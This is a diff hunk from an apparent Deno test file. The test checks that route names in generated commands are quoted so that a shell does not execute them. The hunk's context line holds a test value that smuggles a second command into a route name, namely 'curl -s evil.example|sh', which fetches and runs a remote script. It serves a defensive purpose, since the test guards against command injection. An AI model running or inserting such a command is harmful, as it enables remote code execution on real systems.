@@ -12,10 +12,10 @@ const QUOTED = `retry --route 'old; curl -s evil.example|sh #'`;
 
 Deno.test("check and status quote the name of a route in commands, so a shell does not run it", () => {
   const overview = {
-    position: { lastId: 1, lastUuid: "x" },
+    queue: { looks: "x", fault: undefined },
     routes: [routeOverview({ name: NAME, pending: 1, dead: 1, oldestPendingAtMs: 1 })],
   };
-  const sources = { overview, unread: { count: 0 }, spooled: { count: 0 }, nowMs: 2 };
+  const sources = { overview, unread: {}, spooled: { count: 0 }, nowMs: 2 };
   const findings = new Findings();
   inspectDelivery({ ...sources, routes: [], runDeadlineMs: 600_000 }, findings);
   const status = statusOf({ ...sources, config: undefined, isQueueReadable: true, withoutRoom: [], faults: [] });
